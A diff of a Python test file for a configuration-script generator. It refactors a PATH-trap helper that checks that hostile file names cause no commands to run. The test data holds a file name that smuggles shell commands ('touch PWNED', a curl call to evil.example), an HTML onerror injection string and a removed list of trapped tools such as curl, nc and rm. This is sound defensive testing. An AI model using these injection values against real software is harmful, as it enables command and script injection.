@@ -14,7 +14,6 @@ import os
 import re
 import shutil
 import signal
-import stat
 import subprocess
 import sys
 import tempfile
@@ -38,27 +37,15 @@ from generator.render.templating import comment_safe, header_comment
 from generator.reporting import TextReporter, excerpt, make_reporter, printable, printable_lines
 from tests.conftest import REPO, require_tool, run
 from tests.support.cli import invoke
+from tests.support.traps import install_traps
 
 EXAMPLE = REPO / "designs/ahv-host.yaml"
 TWO_NODES = REPO / "designs/lacp-storage.yaml"
 # The issue's example: a file name that, unescaped, put command lines at the top of every script.
 INJECTING_NAME = "ahv\ntouch PWNED\ncurl -s evil.example #.yaml"
 HTML_NAME = "x--><img src=x onerror=document.title=1337>.yaml"
-TRAPPED = ("touch", "curl", "wget", "rm", "nc", "sh", "id", "PWNED")
 # What a terminal would act on: ESC, CSI (C1), BEL, DEL.
 TERMINAL_CONTROLS = ("\x1b", "\x9b", "\x07", "\x7f")
-
-
-def trap_path(folder: Path) -> tuple[str, Path]:
-    """A PATH whose first folder holds commands that an injection would run; each leaves a mark."""
-    bin_dir = folder / "trap-bin"
-    bin_dir.mkdir()
-    marks = folder / "trap-marks"
-    for name in TRAPPED:
-        script = bin_dir / name
-        script.write_text(f'#!/bin/bash\necho "{name} $*" >> {marks}\nexit 0\n')
-        script.chmod(script.stat().st_mode | stat.S_IXUSR)
-    return f"{bin_dir}{os.pathsep}{os.environ['PATH']}", marks
 
 
 def copy_design(folder: Path, name: str, source: Path = EXAMPLE) -> Path:
@@ -126,7 +113,7 @@ def test_a_file_name_with_command_lines_renders_no_command(tmp_path: Path) -> No
 def test_scripts_and_ifcfg_files_of_a_hostile_name_run_nothing(tmp_path: Path) -> None:
     """The scripts' --help and --dry-run, and every ifcfg file sourced as ifup does, with traps first on PATH."""
     bash = require_tool("bash")
-    path, marks = trap_path(tmp_path)
+    path, marks = install_traps(tmp_path)
     hostile_folder = tmp_path / "hostile"
     hostile_folder.mkdir()
     files = rendered_scripts_and_files(copy_design(hostile_folder, INJECTING_NAME))
@@ -508,7 +495,7 @@ def test_any_file_name_reaches_every_script_and_file_as_one_comment_line(tmp_pat
     case = Path(tempfile.mkdtemp(dir=tmp_path))
     (case / "design").mkdir()
     files = rendered_scripts_and_files(copy_design(case / "design", f"{name}.yaml"))
-    path, marks = trap_path(case)
+    path, marks = install_traps(case)
     out = case / "out"
     for relative, text in files.items():
         target = out / relative
